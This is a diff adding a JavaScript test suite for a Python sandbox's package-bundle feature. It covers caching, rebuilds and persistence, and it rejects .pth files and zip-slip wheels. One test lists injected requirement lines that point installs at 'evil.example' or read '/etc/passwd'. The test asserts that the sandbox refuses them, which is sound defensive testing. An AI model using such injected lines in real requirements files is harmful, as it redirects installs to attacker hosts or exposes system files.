@@ -1,0 +1,226 @@
+'use strict';
+
+// Bundles through the public API, against a local PEP 503 index on loopback
+// serving wheels the test setup builds (test/support/).
+
+const { describe, it, before, after } = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('node:fs');
+const os = require('node:os');
+const path = require('node:path');
+const { Sandbox } = require('../..');
+const { skipWithoutAddon } = require('./common');
+const { ensureWheels } = require('../support/wheels');
+const { startIndex } = require('../support/index_server');
+
+function tempDataDir(t) {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pycage-bundles-'));
+  t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
+  return dir;
+}
+
+function wheelRequests(index, name) {
+  return index.requests.filter((p) => p.startsWith('/files/') && p.includes(name)).length;
+}
+
+describe('bundles', { skip: skipWithoutAddon }, () => {
+  let index;
+  before(async () => {
+    const { dir } = await ensureWheels();
+    index = await startIndex([dir]);
+  });
+  after(() => index && index.close());
+
+  const open = (t, extra = {}) => {
+    const sandbox = new Sandbox({ dataDir: tempDataDir(t), index: { url: index.url }, installer: { tool: 'pip' }, ...extra });
+    t.after(() => sandbox.close());
+    return sandbox;
+  };
+
+  it("reports status 'none' for an unknown key and rejects a run against it with ERR_BUNDLE_NOT_READY", async (t) => {
+    const sandbox = open(t);
+    const status = sandbox.status('wf-unknown');
+    assert.equal(status.status, 'none');
+    assert.equal(status.key, 'wf-unknown');
+    assert.deepEqual(status.packages, []);
+    await assert.rejects(sandbox.runPython('1', { bundle: 'wf-unknown' }), {
+      code: 'ERR_BUNDLE_NOT_READY', message: /"wf-unknown" is not ready \(status 'none'\).*sandbox\.install/,
+    });
+  });
+
+  it('refuses injected installer options and URLs in C++ before any installer runs, naming the line', async (t) => {
+    const sandbox = open(t);
+    const before = index.requests.length;
+    const cases = [
+      ['pycage-hello\n--index-url http://evil.example/simple\n', /line 2/],
+      ['-r /etc/passwd\n', /line 1/],
+      ['pycage-hello @ https://evil.example/x.whl\n', /line 1/],
+      ['pycage-hello @ file:///etc/passwd\n', /line 1/],
+      ['git+https://evil.example/repo.git\n', /line 1/],
+      ['./local/path\n', /line 1/],
+      ['pycage-hello --hash=sha256:00\n', /line 1/],
+    ];
+    for (const [text, line] of cases) {
+      await assert.rejects(sandbox.install('wf-inject', text), (err) => {
+        assert.equal(err.code, 'ERR_REQUIREMENTS_INVALID', `${JSON.stringify(text)}: ${err.message}`);
+        assert.match(err.message, line);
+        return true;
+      });
+    }
+    assert.equal(index.requests.length, before, 'no request reached the index');
+    assert.equal(sandbox.status('wf-inject').status, 'none');
+  });
+
+  it('installs a set, announces building then ready, and runs import it with the module preloaded', async (t) => {
+    const sandbox = open(t);
+    const events = [];
+    sandbox.on('status', (key, status) => events.push([key, status.status]));
+    const status = await sandbox.install('wf-1', 'pycage-hello==1.0\n');
+    assert.equal(status.status, 'ready', status.error);
+    assert.deepEqual(status.packages, [{ name: 'pycage-hello', version: '1.0' }]);
+    assert.match(status.bundleSha, /^[0-9a-f]{64}$/);
+    assert.ok(status.sizeBytes > 0);
+    assert.ok(status.generationTimeMs > 0);
+    assert.match(status.runtimeVersion, /^python 3\.\d+\.\d+ cpython-3\d+/);
+    assert.deepEqual(events, [['wf-1', 'building'], ['wf-1', 'ready']]);
+
+    const run = await sandbox.runPython(
+      "import sys\npreloaded = 'pycage_hello' in sys.modules\nimport pycage_hello\n" +
+      "result = [preloaded, pycage_hello.VERSION, pycage_hello.greet(name)]", { bundle: 'wf-1', inputs: { name: 'ada' } });
+    assert.equal(run.status, 'ok', JSON.stringify(run.error));
+    assert.deepEqual(run.result, [true, '1.0', 'hello ada']);
+
+    const plain = await sandbox.runPython('import pycage_hello');
+    assert.equal(plain.status, 'error');
+    assert.equal(plain.error.type, 'ModuleNotFoundError', 'a run without the bundle sees the standard library only');
+  });
+
+  it('shares one install between keys with the same set written differently, without asking the index again', async (t) => {
+    const sandbox = open(t);
+    const first = await sandbox.install('wf-a', 'pycage-hello==2.0\n');
+    assert.equal(first.status, 'ready', first.error);
+    const served = index.requests.length;
+    const second = await sandbox.install('wf-b', '# same set\nPYCAGE_Hello == 2.0   # pinned\n');
+    assert.equal(second.status, 'ready');
+    assert.equal(second.bundleSha, first.bundleSha);
+    assert.equal(index.requests.length, served, 'a cache hit does not run the installer');
+  });
+
+  it('builds a set once when many keys ask for it at the same time', async (t) => {
+    const sandbox = open(t);
+    const name = 'pycage_needs_hello';
+    const before = wheelRequests(index, name);
+    const statuses = await Promise.all(['k1', 'k2', 'k3', 'k4'].map((key) => sandbox.install(key, 'pycage-needs-hello\n')));
+    for (const status of statuses) assert.equal(status.status, 'ready', status.error);
+    assert.equal(new Set(statuses.map((s) => s.bundleSha)).size, 1);
+    assert.equal(wheelRequests(index, name) - before, 1, 'one download for four keys');
+    // The dependency came from the index too, at the version the dependent needs.
+    assert.deepEqual(statuses[0].packages.map((p) => `${p.name}==${p.version}`).sort(),
+      ['pycage-hello==2.0', 'pycage-needs-hello==1.0']);
+  });
+
+  it("records the installer's own message when a package does not exist", async (t) => {
+    const sandbox = open(t);
+    const status = await sandbox.install('wf-missing', 'pycage-does-not-exist==9.9\n');
+    assert.equal(status.status, 'failed');
+    assert.match(status.error, /pycage-does-not-exist/);
+    assert.match(status.error, /No matching distribution|Could not find a version/);
+    await assert.rejects(sandbox.runPython('1', { bundle: 'wf-missing' }), {
+      code: 'ERR_BUNDLE_NOT_READY', message: /status 'failed'/,
+    });
+  });
+
+  it('fails the build when an import needs more memory than the run limit, saying so', async (t) => {
+    const sandbox = open(t);
+    const status = await sandbox.install('wf-hog', 'pycage-hog\n');
+    assert.equal(status.status, 'failed');
+    assert.match(status.error, /pycage-hog 1\.0 needs more than 512 MB of address space/);
+  });
+
+  it('fails the build when a requested module raises on import', async (t) => {
+    const sandbox = open(t);
+    const status = await sandbox.install('wf-broken', 'pycage-broken\n');
+    assert.equal(status.status, 'failed');
+    assert.match(status.error, /RuntimeError: pycage_broken refuses to import/);
+  });
+
+  it('keeps the previous ready bundle serving while a rebuild is building', async (t) => {
+    const sandbox = open(t);
+    assert.equal((await sandbox.install('wf-r', 'pycage-hello==1.0\n')).status, 'ready');
+    const pending = sandbox.install('wf-r', 'pycage-hello==2.0\n');
+    assert.equal(sandbox.status('wf-r').status, 'building');
+    const during = await sandbox.runPython('import pycage_hello\npycage_hello.VERSION', { bundle: 'wf-r' });
+    assert.equal(during.result, '1.0');
+    assert.equal((await pending).status, 'ready');
+    const afterwards = await sandbox.runPython('import pycage_hello\npycage_hello.VERSION', { bundle: 'wf-r' });
+    assert.equal(afterwards.result, '2.0');
+  });
+
+  it('rebuilds from the stored requirements with bundle(key, { rebuild: true })', async (t) => {
+    const sandbox = open(t);
+    const first = await sandbox.install('wf-rb', 'pycage-hello==2.0\n');
+    const before = wheelRequests(index, 'pycage_hello-2.0');
+    const events = [];
+    sandbox.on('status', (key, status) => events.push(status.status));
+    const rebuilt = await sandbox.bundle('wf-rb', { rebuild: true });
+    assert.equal(rebuilt.status, 'ready');
+    assert.deepEqual(events, ['building', 'ready']);
+    assert.equal(rebuilt.bundleSha, first.bundleSha, 'the same wheels give the same bundle bytes');
+    assert.ok(wheelRequests(index, 'pycage_hello-2.0') >= before);
+    await assert.rejects(sandbox.bundle('wf-never-installed'), { code: 'ERR_INVALID_ARGUMENT', message: /sandbox\.install/ });
+  });
+
+  it('keeps statuses across a restart on the same data directory', async (t) => {
+    const dataDir = tempDataDir(t);
+    const first = new Sandbox({ dataDir, index: { url: index.url }, installer: { tool: 'pip' } });
+    const installed = await first.install('wf-p', 'pycage-hello==1.0\n');
+    await first.install('wf-p-failed', 'pycage-does-not-exist\n');
+    await first.close();
+    const second = new Sandbox({ dataDir, index: { url: index.url } });
+    t.after(() => second.close());
+    assert.equal(second.status('wf-p').status, 'ready');
+    assert.equal(second.status('wf-p').bundleSha, installed.bundleSha);
+    assert.equal(second.status('wf-p-failed').status, 'failed');
+    const run = await second.runPython('import pycage_hello\npycage_hello.VERSION', { bundle: 'wf-p' });
+    assert.equal(run.result, '1.0');
+  });
+
+  it('does not run .pth files shipped in wheels', async (t) => {
+    const sandbox = open(t);
+    assert.equal((await sandbox.install('wf-pth', 'pycage-pth\n')).status, 'ready');
+    const run = await sandbox.runPython("import os, pycage_pth\nos.environ.get('PYCAGE_PTH_RAN')", { bundle: 'wf-pth' });
+    assert.equal(run.status, 'ok', JSON.stringify(run.error));
+    assert.equal(run.result, null);
+  });
+
+  it('refuses a wheel whose members leave the target directory (zip-slip)', async (t) => {
+    const dataDir = tempDataDir(t);
+    const sandbox = new Sandbox({ dataDir, index: { url: index.url }, installer: { tool: 'pip' } });
+    t.after(() => sandbox.close());
+    const status = await sandbox.install('wf-slip', 'pycage-zipslip\n');
+    assert.equal(status.status, 'failed');
+    const escaped = [];
+    const walk = (dir) => {
+      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
+        if (entry.name === 'pycage_zipslip_escaped.py') escaped.push(path.join(dir, entry.name));
+        if (entry.isDirectory()) walk(path.join(dir, entry.name));
+      }
+    };
+    walk(path.dirname(dataDir));
+    assert.deepEqual(escaped, []);
+  });
+
+  it('collects unreferenced installs oldest first under the disk cap', async (t) => {
+    const dataDir = tempDataDir(t);
+    const sandbox = new Sandbox({ dataDir, index: { url: index.url }, installer: { tool: 'pip' }, diskCapBytes: 1 });
+    t.after(() => sandbox.close());
+    await sandbox.install('wf-gc', 'pycage-hello==1.0\n');
+    const installs = path.join(dataDir, 'bundles', 'installs');
+    assert.equal(fs.readdirSync(installs).length, 1);
+    await sandbox.install('wf-gc', 'pycage-hello==2.0\n');
+    // The 1.0 install is no longer referenced by any key and the cap is tiny.
+    assert.equal(fs.readdirSync(installs).length, 1);
+    const run = await sandbox.runPython('import pycage_hello\npycage_hello.VERSION', { bundle: 'wf-gc' });
+    assert.equal(run.result, '2.0', 'the referenced install survives');
+  });
+});
